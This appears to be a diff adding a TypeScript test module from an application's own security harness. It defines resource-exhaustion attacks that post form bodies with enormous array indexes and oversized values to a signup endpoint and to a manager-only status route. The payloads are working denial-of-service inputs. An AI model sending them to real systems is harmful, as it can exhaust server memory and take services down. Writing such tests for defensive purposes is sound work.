@@ -1,0 +1,29 @@
+import { type Attack, send } from "../attack";
+
+const intent = (payload: unknown) =>
+  `__intent__=${encodeURIComponent(JSON.stringify({ type: "update", payload }))}`;
+const BODIES = [
+  "email[50000000]=x",
+  "email[100000000]=x",
+  "a[9999999][9999999]=x",
+  intent({ name: "email", index: 30_000_000, value: 1 }),
+  intent({ name: "", value: "x".repeat(100_000) }),
+];
+
+/** A form's name with an index, of which the parser makes a list of that length. */
+export const formIndexes: Attack[] = [
+  {
+    code: "V1",
+    name: "lists of 50 million by one name",
+    run: (target) => Promise.all(BODIES.map((body) => send(target, "/signup", { body }))),
+  },
+  {
+    code: "V1",
+    name: "the same in an address",
+    run: async (target) => {
+      const who = await target.as("manager");
+      const path = `/trip-tickets/selection/update-status?${BODIES[0]}`;
+      return [await send(target, path, { method: "GET", who })];
+    },
+  },
+];
